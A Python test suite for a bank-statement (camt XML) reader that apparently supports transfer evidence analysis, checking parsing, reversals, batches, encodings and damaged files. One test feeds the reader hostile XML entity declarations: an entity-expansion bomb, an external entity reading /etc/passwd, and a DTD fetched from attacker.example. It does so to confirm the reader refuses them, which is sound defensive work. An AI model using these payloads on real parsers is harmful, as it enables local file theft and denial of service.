"""camt.052, .053 and .054: transfers between the statement's own account and the other side, whatever the version."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from upriver.case.settings import FileSettings
from upriver.evidence.folder import UnreadableError
from upriver.evidence.params import EvidenceParams
from upriver.evidence.readers import camt

from .sources import rows, source

PARAMS = EvidenceParams()
OWN, SHOP, MULE = "DE89370400440532013000", "NL91ABNA0417164300", "GB29NWBK60161331926819"


def party(version: int, role: str, name: str, iban: str) -> str:
    inner = f"<Pty><Nm>{name}</Nm></Pty>" if version >= 8 else f"<Nm>{name}</Nm>"
    return f"<{role}>{inner}</{role}><{role}Acct><Id><IBAN>{iban}</IBAN></Id></{role}Acct>"


def entry(
    version: int = 8,
    way: str = "DBIT",
    amount: str = "1500.00",
    details: str = "",
    status: str = "BOOK",
    more: str = "",
) -> str:
    status = f"<Sts><Cd>{status}</Cd></Sts>" if version >= 8 else f"<Sts>{status}</Sts>"
    return (
        f'<Ntry><NtryRef>7</NtryRef><Amt Ccy="EUR">{amount}</Amt><CdtDbtInd>{way}</CdtDbtInd>{more}{status}'
        "<BookgDt><Dt>2025-05-06</Dt></BookgDt><ValDt><Dt>2025-05-07</Dt></ValDt><AcctSvcrRef>B-77</AcctSvcrRef>"
        "<BkTxCd><Domn><Cd>PMNT</Cd><Fmly><Cd>ICDT</Cd><SubFmlyCd>ESCT</SubFmlyCd></Fmly></Domn></BkTxCd>"
        f"<NtryDtls>{details}</NtryDtls></Ntry>\n"
    )


def detail(version: int, *parties: tuple[str, str, str], end: str = "E2E-1", more: str = "", text: str = "fee") -> str:
    listed = "".join(party(version, *one) for one in parties)
    agent = "BICFI" if version >= 3 else "BIC"
    return (
        f"<TxDtls><Refs><EndToEndId>{end}</EndToEndId></Refs>{more}<RltdPties>{listed}</RltdPties>"
        f"<RltdAgts><CdtrAgt><FinInstnId><{agent}>NWBKGB2L</{agent}></FinInstnId></CdtrAgt></RltdAgts>"
        f"<RmtInf><Ustrd>{text}</Ustrd><Ustrd>part 2</Ustrd></RmtInf></TxDtls>"
    )


def document(*entries: str, version: int = 8, kind: str = "053", prefix: str = "") -> str:
    root, parent = {
        "052": ("BkToCstmrAcctRpt", "Rpt"), "053": ("BkToCstmrStmt", "Stmt"),
        "054": ("BkToCstmrDbtCdtNtfctn", "Ntfctn"),
    }[kind]  # fmt: skip
    whole = (
        f"<Document><{root}><GrpHdr><MsgId>1</MsgId></GrpHdr><{parent}><Id>S1</Id><Acct><Id><IBAN>{OWN}</IBAN></Id>"
        f"<Ownr><Nm>Mia Mule</Nm></Ownr></Acct>\n{''.join(entries)}</{parent}></{root}></Document>"
    )
    if prefix:
        whole = whole.replace("</", f"<\0{prefix}:").replace("<", f"<{prefix}:").replace(f"<{prefix}:\0", "</")
    space = f' xmlns{":" + prefix if prefix else ""}="urn:iso:std:iso:20022:tech:xsd:camt.{kind}.001.{version:02d}"'
    name = f"{prefix}:Document" if prefix else "Document"
    return '<?xml version="1.0" encoding="UTF-8"?>\n' + whole.replace(f"<{name}>", f"<{name}{space}>", 1)


def read(tmp_path: Path, text: str | bytes, told: FileSettings | None = None) -> list[dict[str, Any]]:
    return rows(camt.read(source(tmp_path / "a.xml", text, told or FileSettings()), PARAMS))


@pytest.mark.parametrize("kind", ["052", "053", "054"])
@pytest.mark.parametrize("version", range(2, 14))
def test_every_version_tells_the_same_payment(tmp_path: Path, kind: str, version: int) -> None:
    paid = entry(version, details=detail(version, ("Dbtr", "Mia Mule", OWN), ("Cdtr", "Boss", MULE)))
    (found,) = read(tmp_path, document(paid, version=version, kind=kind, prefix="ns2" if version % 2 else ""))
    rest = json.loads(found.pop("extra"))
    assert found == {
        "at": "line 3 entry 1", "form": "bank_transfer", "source_account": OWN, "source_name": "Mia Mule",
        "target_account": MULE, "target_name": "Boss", "occurred_at": "2025-05-06", "amount": "1500.00",
        "currency": "EUR", "reference": "B-77", "purpose": "fee part 2", "channel": "PMNT ICDT ESCT",
    }  # fmt: skip
    assert rest == {
        "end_to_end_id": "E2E-1", "bank_reference": "B-77", "entry_reference": "7", "value_date": "2025-05-07",
        "creditor_bank": "NWBKGB2L",
    }  # fmt: skip


def test_what_comes_in_is_paid_by_the_debtor(tmp_path: Path) -> None:
    got = entry(way="CRDT", details=detail(8, ("Dbtr", "Shop", SHOP), ("Cdtr", "Mia Mule", OWN)))
    (found,) = read(tmp_path, document(got))
    assert (found["source_account"], found["target_account"]) == (SHOP, OWN)


def test_a_payment_taken_back_goes_the_other_way_and_says_so(tmp_path: Path) -> None:
    # The roles are those of the payment that is taken back.
    back = detail(8, ("Dbtr", "Mia Mule", OWN), ("Cdtr", "Shop", SHOP))
    (found,) = read(tmp_path, document(entry(way="CRDT", details=back, more="<RvslInd>true</RvslInd>")))
    assert (found["source_account"], found["target_account"]) == (SHOP, OWN)
    assert json.loads(found["extra"])["reversal"] == "true"


def test_payments_booked_together_are_told_one_by_one(tmp_path: Path) -> None:
    one = detail(8, ("Cdtr", "A", SHOP), end="E1", more='<Amt Ccy="EUR">1000.00</Amt>')
    two = detail(8, ("Cdtr", "B", MULE), end="E2", more='<AmtDtls><TxAmt><Amt Ccy="EUR">500.00</Amt></TxAmt></AmtDtls>')
    found = read(tmp_path, document(entry(details=one + two)))
    assert [(row["at"], row["amount"], row["target_account"], row["reference"]) for row in found] == [
        ("line 3 entry 1 detail 1", "1000.00", SHOP, "E1"), ("line 3 entry 1 detail 2", "500.00", MULE, "E2"),
    ]  # fmt: skip
    assert json.loads(found[0]["extra"])["booked_amount"] == "1500.00"


def test_of_payments_booked_together_without_amounts_the_sum_alone_is_told(tmp_path: Path) -> None:
    (found,) = read(tmp_path, document(entry(details=detail(8, ("Cdtr", "A", SHOP)) + detail(8, ("Cdtr", "B", MULE)))))
    assert (found["amount"], found.get("target_account")) == ("1500.00", None)
    assert json.loads(found["extra"])["payments_booked_together"] == "2"


def test_the_moment_of_an_instant_payment_is_kept(tmp_path: Path) -> None:
    at = "<RltdDts><AccptncDtTm>2025-05-06T14:03:09+02:00</AccptncDtTm></RltdDts>"
    (found,) = read(tmp_path, document(entry(details=detail(8, ("Cdtr", "B", MULE), more=at))))
    assert found["occurred_at"] == "2025-05-06T14:03:09+02:00"


def test_what_is_pending_is_no_transfer_yet(tmp_path: Path) -> None:
    paid = detail(8, ("Cdtr", "B", MULE))
    found = read(tmp_path, document(entry(details=paid), entry(details=paid, status="PDNG")))
    assert [row["form"] for row in found] == ["bank_transfer", "broken"]
    assert found[1]["reason"].startswith("it is pending")
    assert found[1]["raw"].startswith("<Ntry>")


def test_each_statement_of_a_file_has_its_own_account(tmp_path: Path) -> None:
    paid = entry(details=detail(8, ("Cdtr", "B", MULE)))
    two = document(paid) + "\n" + document(paid).replace(OWN, SHOP)  # two documents one behind the other
    found = read(tmp_path, two)
    assert [(row["at"], row["source_account"]) for row in found] == [
        ("line 3 entry 1", OWN), ("line 7 entry 2", SHOP),
    ]  # fmt: skip


def test_an_account_that_the_file_does_not_name_may_be_told(tmp_path: Path) -> None:
    bare = document(entry(details=detail(8, ("Cdtr", "B", MULE)))).replace(f"<IBAN>{OWN}</IBAN>", "", 1)
    bare = bare.replace("<Acct><Id></Id><Ownr><Nm>Mia Mule</Nm></Ownr></Acct>", "")
    (found,) = read(tmp_path, bare, FileSettings(own_account="123"))
    assert found["source_account"] == "123"


def test_a_mark_torn_out_costs_its_own_entry(tmp_path: Path) -> None:
    paid = [entry(amount=f"{n}.00", details=detail(8, ("Cdtr", "B", MULE))) for n in (1, 2, 3)]
    torn = document(*paid).replace("<CdtDbtInd>DBIT</CdtDbtInd>", "<CdtDbtInd>DB<IT</CdtDbtInd>", 2)
    torn = torn.replace("DB<IT", "DBIT", 1)
    found = {row["at"]: row for row in read(tmp_path, torn)}
    assert {at: row["form"] for at, row in found.items()} == {
        "line 3 entry 1": "bank_transfer", "line 4 entry 2": "broken", "line 5 entry 3": "bank_transfer",
    }  # fmt: skip
    assert found["line 4 entry 2"]["raw"].startswith('<Ntry><NtryRef>7</NtryRef><Amt Ccy="EUR">2.00')
    assert found["line 5 entry 3"]["source_account"] == OWN


def test_a_statement_whose_beginning_is_torn_is_read_without_its_account(tmp_path: Path) -> None:
    torn = document(entry(details=detail(8, ("Cdtr", "B", MULE)))).replace("<Acct><Id>", "<Acct><Id")
    one, two = read(tmp_path, torn)
    assert (one["form"], one["target_account"], one.get("source_account")) == ("bank_transfer", MULE, None)
    assert two["form"] == "broken"


def test_a_file_cut_anywhere_keeps_the_entries_before_the_cut(tmp_path: Path) -> None:
    paid = entry(details=detail(8, ("Cdtr", "B", MULE)))
    whole = document(paid, paid)
    first = whole.index("</Ntry>") + len("</Ntry>")
    for cut in range(first, len(whole), 11):
        found = read(tmp_path, whole[:cut])
        assert found[0]["form"] == "bank_transfer"
        assert found[-1]["form"] == "broken"
        assert "XML" in found[-1]["reason"]


@pytest.mark.parametrize(
    ("declared", "what"),
    [
        ('<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>', "document type"),
        ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "document type"),
        ('<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">', "document type"),
    ],
)
def test_entities_are_never_obeyed(tmp_path: Path, declared: str, what: str) -> None:
    head, _, body = document(entry(details=detail(8, ("Cdtr", "&b;&e;", MULE)))).partition("\n")
    with pytest.raises(UnreadableError, match=what):
        read(tmp_path, f"{head}\n{declared}\n{body}")


def test_elements_too_deeply_in_each_other_are_refused(tmp_path: Path) -> None:
    deep = document(entry(details="<a>" * 100_000))
    with pytest.raises(UnreadableError, match="lie in each other"):
        read(tmp_path, deep)
    paid = entry(details=detail(8, ("Cdtr", "B", MULE)))
    found = read(tmp_path, document(paid, entry(details="<a>" * 100_000)))
    assert [row["form"] for row in found] == ["bank_transfer", "broken"]


def test_a_huge_text_breaks_its_entry(tmp_path: Path) -> None:
    paid = [entry(details=detail(8, ("Cdtr", "B", MULE), text=text)) for text in ("x" * 2000, "y")]
    file = source(tmp_path / "a.xml", document(*paid))
    found = rows(camt.read(file, EvidenceParams(max_cell_bytes=1000)))
    assert [(row["form"], row["at"]) for row in found] == [
        ("bank_transfer", "line 4 entry 2"), ("broken", "line 3 entry 1"),
    ]  # fmt: skip


def test_the_declared_encoding_is_believed_where_the_bytes_are_not_another(tmp_path: Path) -> None:
    text = document(entry(details=detail(8, ("Cdtr", "Пётр Дмитриевич Соколов", MULE))))
    for name in ("koi8-r", "utf-16"):
        found = read(tmp_path, text.replace("UTF-8", name, 1).encode(name))
        assert found[0]["target_name"] == "Пётр Дмитриевич Соколов"


def test_a_statement_without_entries_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UnreadableError, match="holds no entry"):
        read(tmp_path, document())
